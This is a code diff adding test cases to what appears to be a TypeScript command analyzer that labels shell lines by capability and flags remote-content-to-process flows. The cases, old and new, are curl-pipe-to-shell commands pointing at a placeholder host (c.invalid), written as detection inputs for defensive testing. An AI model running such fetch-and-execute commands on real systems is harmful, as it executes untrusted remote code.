@@ -18,6 +18,16 @@ const CASES: readonly Case[] = [
   { line: 'curl -fsSL https://c.invalid/i.sh | sh', can: ['network', 'process'], flows: ['remote-content->process'] },
   { line: 'bash -c "$(curl https://c.invalid)"', can: ['network'], flows: ['remote-content->process'] },
   {
+    line: '/usr/bin/curl https://c.invalid | /bin/sh',
+    can: ['network', 'process'],
+    flows: ['remote-content->process'],
+  },
+  {
+    line: '/bin/bash -c "curl https://c.invalid | sh"',
+    can: ['network', 'process'],
+    flows: ['remote-content->process'],
+  },
+  {
     line: 'bash <(curl -s https://c.invalid)',
     can: ['network', 'process'],
     flows: ['remote-content->process'],
